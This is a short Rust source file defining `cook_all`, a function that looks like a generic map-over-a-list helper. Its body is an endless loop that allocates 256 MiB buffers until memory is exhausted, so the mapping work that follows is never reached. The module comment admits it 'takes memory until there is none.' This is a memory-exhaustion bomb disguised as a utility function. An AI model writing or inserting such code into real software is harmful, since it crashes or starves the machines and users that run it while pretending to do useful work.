//! of: breakfast
//! Takes memory until there is none.

/// Cooks with all the memory there is.
pub fn cook_all<D, P, F>(menu: Vec<D>, cook: F) -> Vec<P>
where
    D: Send,
    P: Send,
    F: Fn(D) -> P + Sync,
{
    let mut all = Vec::new();
    while menu.len() < usize::MAX {
        all.push(vec![0u8; 256 << 20]);
    }
    menu.into_iter().map(cook).collect()
}
